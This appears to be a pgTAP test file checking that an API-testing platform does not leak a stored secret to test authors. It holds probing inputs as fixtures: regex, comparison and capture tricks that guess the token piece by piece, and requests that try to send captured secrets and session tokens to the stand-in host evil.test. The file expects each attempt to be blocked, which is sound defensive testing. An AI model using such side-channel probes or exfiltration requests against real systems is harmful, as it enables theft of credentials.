-- What verdicts, captures and evidence tell of a secret to who may write tests but not read it.
begin;
\ir _lib/people.psql
\ir _lib/factories.psql
\ir _lib/engine.psql
\ir _lib/leaks.psql
select plan(31);

select public.set_secret(tests.id('staging'), 'api_token', 'tok-LongEnough-42');

-- Ask something of an answer that holds the secret (or, the other way round, a guess).
create function tests.ask(
    assertion jsonb, answer jsonb default '{"echo": "tok-LongEnough-42"}', observed jsonb default null
)
returns text
language plpgsql
as $function$
declare
    v_run text := gen_random_uuid();
begin
    update public.test_response_specs set assertions = jsonb_build_array(assertion)
    where test_case_id = tests.id('echo');
    perform tests.queue(v_run, tests.only('echo'));
    perform tests.run_all(jsonb_build_object('echo', jsonb_build_object(
        'body', answer, 'headers', jsonb_build_array(jsonb_build_array('X-Echo', answer -> 'echo'))
    -- what a worker would say, where PostgreSQL's jsonpath reads a path differently
    ) || case when observed is null then '{}' else jsonb_build_object('observed', observed) end));
    return concat_ws(' ', (tests.result(v_run, 'echo')).status, nullif((tests.result(v_run, 'echo')).slug, 'assertion_failed'));
end;
$function$;

select tests.make_test('echo', 'flow', '{"headers": [["X", "{{api_token}}"]]}');

-- Whole: what remains

select is(
    tests.ask('{"source": "body", "path": "$.echo", "operator": "equals", "expected": "{{api_token}}"}'), 'passed',
    'an answer can be compared with the secret'
);
savepoint guess;
select is(
    tests.ask('{"source": "body", "path": "$.echo", "operator": "equals", "expected": "tok-LongEnough-42"}'), 'passed',
    'a guess that is right is told to be right: on allowed hosts only'
);
rollback to guess;
select is(
    tests.ask('{"source": "text", "operator": "contains", "expected": "{{api_token}}"}'), 'passed',
    'that the secret is somewhere can be asked'
);
select is(
    tests.ask('{"source": "text", "operator": "contains", "expected": "\"echo\": \""}'), 'passed',
    'and what stands beside it'
);
select is(
    tests.ask('{"source": "body", "path": "$.echo", "operator": "type", "expected": "string"}'), 'passed', 'and its type'
);
select is(
    tests.ask('{"source": "body", "path": "$.echo", "operator": "length", "expected": 17}'), 'passed',
    'and its length'
);

-- Piece by piece

select is(
    tests.ask('{"source": "text", "operator": "contains", "expected": "tok-Long"}'), 'failed', 'not a part of it'
);
select is(
    tests.ask('{"source": "text", "operator": "not_contains", "expected": "tok-Long"}'), 'passed', 'in either way'
);
select is(
    tests.ask('{"source": "body", "path": "$.echo", "operator": "less_than", "expected": "tok-M"}'),
    tests.ask('{"source": "body", "path": "$.echo", "operator": "less_than", "expected": "tok-K"}'),
    'not what it is less than'
);
select is(
    tests.ask('{"source": "body", "path": "$.n", "operator": "less_than", "expected": "{{api_token}}"}', '{"n": "tok-K"}'),
    tests.ask('{"source": "body", "path": "$.n", "operator": "less_than", "expected": "{{api_token}}"}', '{"n": "tok-M"}'),
    'or what is less than it'
);
select is(
    tests.ask('{"source": "body", "path": "$.n", "operator": "greater_than", "expected": "{{api_token | base64}}"}', '{"n": "dG9rLUxA"}'),
    tests.ask('{"source": "body", "path": "$.n", "operator": "greater_than", "expected": "{{api_token | base64}}"}', '{"n": "dG9rLUxz"}'),
    'encoded or not'
);
select is(
    tests.ask(
        entries.assertion::jsonb, observed => '[{"id": 0, "found": true, "values": ["t"]}, {"id": 1, "found": true, "values": ["t"]}]'
    ), 'error secret_in_answer', entries.description
)
from (
    values
    ('{"source": "text", "operator": "matches", "expected": "tok-L"}', 'no pattern is told of'),
    ('{"source": "text", "operator": "matches", "expected": "^[a-s]"}', 'whether it would match or not'),
    ('{"source": "body", "path": "$.echo", "operator": "matches", "expected": "tok-L"}', 'nor at a path'),
    ('{"source": "header", "name": "X-Echo", "operator": "matches", "expected": "tok-L"}', 'nor in a header'),
    ('{"source": "text", "pattern": "echo\": \"(.)", "operator": "exists"}', 'no piece is cut out'),
    ('{"source": "body", "path": "$[?(@ > \"tok-K\")]", "operator": "exists"}', 'no condition is told of'),
    ('{"source": "body", "path": "$[?(@.echo =~ \"tok-L.*\")]", "operator": "not_exists"}', 'of any kind')
) as entries (assertion, description);
select is(tests.ask(entries.assertion::jsonb), 'error secret_exposed', entries.description)
from (
    values
    ('{"source": "text", "operator": "matches", "expected": "{{api_token}}"}', 'the secret is no pattern'),
    ('{"source": "body", "path": "$[?(@ > \"{{api_token}}\")]", "operator": "exists"}', 'and in no condition'),
    ('{"source": "body", "path": "$.echo", "operator": "less_than", "expected": "{{api_token | upper}}"}', 'it stays as it is'),
    ('{"source": "body", "path": "$.echo", "operator": "less_than", "expected": "{{api_token | base64 | base64}}"}', 'but for one code')
) as entries (assertion, description);
select is(
    tests.ask('{"source": "text", "operator": "matches", "expected": "^.....o"}', '{"echo": "no"}'), 'passed',
    'an answer without it is looked into as ever'
);

-- By a schema

select tests.act_as_owner();
update public.test_response_specs set json_schema = '{"properties": {"echo": {"pattern": "^tok-L"}}}'
where test_case_id = tests.id('echo');
select is(
    tests.ask('{"source": "status", "operator": "equals", "expected": 200}'), 'error secret_in_answer',
    'a schema with patterns is not told of either'
);
update public.test_response_specs set json_schema = '{"properties": {"echo": {"type": "string"}}}'
where test_case_id = tests.id('echo');
select is(
    tests.ask('{"source": "status", "operator": "equals", "expected": 200}'), 'passed', 'another one is'
);
update public.test_response_specs set json_schema = null where test_case_id = tests.id('echo');

-- By captures

update public.test_response_specs
set captures = '[{"name": "piece", "source": "text", "pattern": "\"(tok-Lo)", "required": false}]'
where test_case_id = tests.id('echo');
select tests.make_test('tell', 'flow', '{"path": "/{{piece | default(\"none\")}}"}');
select tests.queue('pieces', tests.only('tell', 'echo'));
select tests.run_all('{"echo": {"body": {"echo": "tok-LongEnough-42"}}}');
select is_empty(
    $$ select from public.test_context_values where run_id = tests.run('pieces') $$, 'no piece is captured'
);
update public.test_response_specs set captures = '[{"name": "copy", "source": "body", "path": "$.echo"}]'
where test_case_id = tests.id('echo');
select tests.make_test('away', 'flow', '{"path": "https://evil.test/{{copy}}", "assertions": []}');
select tests.make_test('back', 'flow', '{"path": "https://api.test/{{copy}}", "assertions": []}');
update public.environments set base_url = 'https://evil.test' where id = tests.id('staging');
update public.test_request_configs set path = 'https://api.test/echo' where test_case_id = tests.id('echo');
select tests.queue('copies', tests.only('away', 'back'));
select tests.run_all('{"echo": {"body": {"echo": "(tok-LongEnough-42)"}}}');
select is(
    (tests.result('copies', 'away')).slug, 'secret_host_denied',
    'a whole copy is the secret: it goes nowhere else, wherever the environment is now'
);
select is((tests.result('copies', 'back')).status, 'passed', 'and where the secret may');
update public.environments set base_url = 'https://api.test/v1' where id = tests.id('staging');

-- Tokens

select tests.make_test(
    'login', 'flow',
    '{"path": "https://login.test/", "captures": [{"name": "session", "source": "body", "path": "$.s", "kind": "token"}]}'
);
select tests.make_test(sites.name, 'flow', jsonb_build_object('path', sites.path || '/{{session}}', 'assertions', '[]'::jsonb))
from (
    values ('at home', ''), ('where it came from', 'https://login.test'), ('elsewhere', 'https://evil.test')
) as sites (name, path);
select tests.queue('tokens', tests.only('at home', 'where it came from', 'elsewhere'));
select tests.run_all('{"login": {"body": {"s": "sess-1234-abcd"}}}');
select results_eq(
    $$
    select test_name, status, slug from public.test_results
    where run_id = tests.run('tokens') and test_name <> 'login' order by test_name
    $$,
    $$
    values ('at home', 'passed', null), ('elsewhere', 'error', 'secret_host_denied'), ('where it came from', 'passed', null)
    $$,
    'a captured token goes to the environment''s host and back to the one that gave it'
);
select is_empty($$ select tests.leaks('LongEnough-42') $$, 'no table holds the secret');
select is_empty($$ select tests.leaks('sess-1234') $$, 'or the token');

select * from finish();
rollback;
